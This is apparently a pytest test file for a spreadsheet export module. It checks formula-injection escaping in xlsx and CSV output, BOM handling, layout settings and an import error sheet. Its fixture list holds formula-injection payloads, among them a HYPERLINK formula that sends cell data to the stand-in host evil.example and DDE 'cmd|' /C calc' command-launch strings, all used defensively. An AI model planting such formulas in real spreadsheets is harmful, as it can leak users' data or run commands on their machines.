"""Writing spreadsheets: formula injection neutralised in .xlsx and CSV, the
BOM that makes Excel read UTF-8, the layout helpers, and the error sheet."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from shishi.sheets.results import MAX_ERRORS_KEPT, ImportReport, RowError
from shishi.sheets.writers import (
    EXCEL_CELL_MAX,
    Column,
    XlsxWriter,
    csv_lines,
    csv_text,
    errors_xlsx,
    xlsx_bytes,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(writer: XlsxWriter):
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(writer.save))).active


@pytest.mark.parametrize("text", DANGEROUS)
def test_an_xlsx_cell_that_looks_like_a_formula_comes_back_as_text(text):
    writer = XlsxWriter([Column("内容")])
    writer.append([text])
    cell = _sheet(writer)["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n") or cell.value == text
    # Excel's own mark for "typed as text": editing the cell keeps it text.
    assert cell.quotePrefix


def test_no_formula_element_reaches_the_file():
    writer = XlsxWriter([Column("a"), Column("b")])
    for text in DANGEROUS:
        writer.append([text, "普通文字"])
    data = xlsx_bytes(writer.save)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_numbers_and_dates_stay_numbers_and_dates():
    writer = XlsxWriter([Column("n"), Column("d"), Column("t"), Column("x")])
    moment = dt.datetime(2021, 10, 8, 9, 30, tzinfo=dt.UTC)
    writer.append([-5, dt.date(2021, 12, 31), moment, Decimal("3.50")])
    ws = _sheet(writer)
    assert ws["A2"].value == -5 and ws["A2"].data_type == "n"
    # Excel's dates and times carry no zone.
    assert ws["B2"].value == dt.datetime(2021, 12, 31)  # noqa: DTZ001
    assert ws["B2"].number_format == "yyyy-mm-dd"
    # Aware datetimes are written in local time (Asia/Shanghai).
    assert ws["C2"].value == dt.datetime(2021, 10, 8, 17, 30)  # noqa: DTZ001
    assert ws["D2"].value == 3.5


def test_text_openpyxl_would_take_for_an_error_value_stays_text():
    writer = XlsxWriter([Column("a"), Column("b")])
    writer.append(["#N/A", True])
    ws = _sheet(writer)
    assert ws["A2"].value == "#N/A" and ws["A2"].data_type == "s"
    assert ws["B2"].value is True


def test_text_excel_cannot_hold_is_made_safe():
    writer = XlsxWriter([Column("a"), Column("b")])
    writer.append(["控制\x01字符\x0b", "长" * (EXCEL_CELL_MAX + 10)])
    ws = _sheet(writer)
    assert ws["A2"].value == "控制字符"
    assert len(ws["B2"].value) == EXCEL_CELL_MAX


def test_the_layout_title_rows_frozen_header_print_setup():
    columns = [Column("序号", 6), Column("名称", 30, wrap=True), Column("数量", 10)]
    writer = XlsxWriter(columns, title_rows=["中原区清单", "导出日期"], freeze_columns=2)
    writer.append([1, "甲", 3])
    writer.append([2, "乙", 4], highlight=True)
    ws = _sheet(writer)
    assert ws["A1"].value == "中原区清单" and ws["A2"].value == "导出日期"
    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:C1", "A2:C2"}
    assert [c.value for c in ws[3]] == ["序号", "名称", "数量"]
    assert ws.freeze_panes == "C4"
    assert ws.print_title_rows == "$3:$3"
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.column_dimensions["B"].width == 30
    assert ws["B4"].alignment.wrap_text
    assert ws.auto_filter.ref == "A3:C5"
    assert ws["A4"].fill.fill_type is None
    assert ws["A5"].fill.fill_type == "solid"


# ---------------------------------------------------------------------- CSV


def test_csv_starts_with_a_bom_and_reads_back_as_utf8():
    data = "".join(csv_lines(["编号", "标题"], [["1", "新建公厕"]])).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "编号,标题\r\n1,新建公厕\r\n"


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_csv_cell_that_looks_like_a_formula_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


def test_csv_leaves_numbers_and_ordinary_text_alone():
    assert csv_text(-5) == "-5"
    assert csv_text(Decimal("6360.00")) == "6360"
    assert csv_text("新建公厕 10 座") == "新建公厕 10 座"
    assert csv_text(dt.date(2021, 12, 31)) == "2021-12-31"
    assert csv_text(None) == ""


def test_csv_quotes_what_needs_quoting():
    line = list(csv_lines(["a"], [['说"好",再见\n第二行']]))[1]
    assert line == '"说""好"",再见\n第二行"\r\n'


# ---------------------------------------------------------- the error sheet


def test_the_error_sheet_lists_file_row_column_value_and_message():
    report = ImportReport(file_name="台账.xlsx")
    report.add_error(RowError(5, "完成时限", "明年", "Not a date we can read."))
    report.add_error(RowError(9, "项目名称", "=cmd|' /C calc'!A0", "The title is empty."))
    ws = openpyxl.load_workbook(io.BytesIO(errors_xlsx(report))).active
    assert "台账.xlsx" in ws["A1"].value and "2" in ws["A1"].value
    assert [c.value for c in ws[2]] == ["文件", "行", "列", "内容", "问题"]
    assert [c.value for c in ws[3]] == [
        "台账.xlsx",
        5,
        "完成时限",
        "明年",
        "Not a date we can read.",
    ]
    assert ws["D4"].data_type == "s" and ws["D4"].value.startswith("=")
    assert ws.freeze_panes == "A3"


def test_the_error_sheet_says_how_many_errors_were_left_out():
    report = ImportReport(file_name="big.csv")
    for row in range(MAX_ERRORS_KEPT + 7):
        report.add_error(RowError(row + 2, "留言时间", "x", "Not a date."))
    ws = openpyxl.load_workbook(io.BytesIO(errors_xlsx(report))).active
    assert ws.max_row == 2 + MAX_ERRORS_KEPT + 1
    assert "7" in ws.cell(ws.max_row, 5).value
